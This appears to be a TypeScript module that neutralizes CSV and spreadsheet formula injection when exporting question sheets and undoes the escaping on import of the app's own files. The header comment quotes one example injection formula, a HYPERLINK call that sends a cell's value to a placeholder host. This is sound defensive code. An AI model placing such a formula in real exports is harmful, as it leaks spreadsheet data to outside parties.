import { COLUMN_LABELS, EXPORT_COLUMNS } from '#shared/domain/question-sheet.js';
import type { ParsedSheet } from './parsed-sheet.js';

/**
 * CSV injection (OWASP "CSV Injection"): a spreadsheet program opening a `.csv` or `.txt` runs a
 * cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula
 * (`=HYPERLINK("http://x/?"&A1,"click")`). Our text exports write such a cell with a single quote
 * before it (and every cell quoted), so it is shown as text. A cell that itself starts with `'` gets
 * one too: then "strip one leading `'` when the next character is one of these" undoes the export
 * exactly, `'=x` included (exported as `''=x`).
 *
 * The importer undoes it only for a file that is provably our export: its header is exactly our
 * export's column labels (one language), and every cell is one the export can write (no cell starts
 * with a bare trigger, no cell starts with `'` followed by anything else). A hand-made file failing
 * either test is read as written (D283).
 */

/** What a cell may start with for a spreadsheet program to read it as a formula, and the quote that escapes it. */
const ESCAPED_STARTS = new Set(['=', '+', '-', '@', '\t', '\r', "'"]);

/** An exported cell: a single quote before a formula-like start (and before a leading quote, so import can undo it). */
export function neutralizeCell(text: string): string {
  return text !== '' && ESCAPED_STARTS.has(text[0]!) ? `'${text}` : text;
}

/** Whether `text` is something neutralizeCell can write. */
function isExportedCell(text: string): boolean {
  if (text === '' || !ESCAPED_STARTS.has(text[0]!)) return true;
  return text[0] === "'" && text.length > 1 && ESCAPED_STARTS.has(text[1]!);
}

/** neutralizeCell undone: one leading `'` removed when a formula start or a quote follows it. */
export function restoreCell(text: string): string {
  return text.length > 1 && text[0] === "'" && ESCAPED_STARTS.has(text[1]!) ? text.slice(1) : text;
}

/** Whether `header` is our export's header row (or Anki `#columns:` line), in Korean or in English. */
function isExportHeader(header: readonly string[]): boolean {
  if (header.length !== EXPORT_COLUMNS.length) return false;
  return (['ko', 'en'] as const).some((language) =>
    EXPORT_COLUMNS.every((column, i) => header[i] === COLUMN_LABELS[column][language]),
  );
}

/** A text sheet that is our own export, its cells as they were before the export escaped them; any other sheet as it is. */
export function restoreOwnExport(sheet: ParsedSheet): ParsedSheet {
  if (!isExportHeader(sheet.header)) return sheet;
  const ours = sheet.rows.every((row) => row.every((cell) => typeof cell !== 'string' || isExportedCell(cell)));
  if (!ours) return sheet;
  return {
    ...sheet,
    rows: sheet.rows.map((row) => row.map((cell) => (typeof cell === 'string' ? restoreCell(cell) : cell))),
  };
}
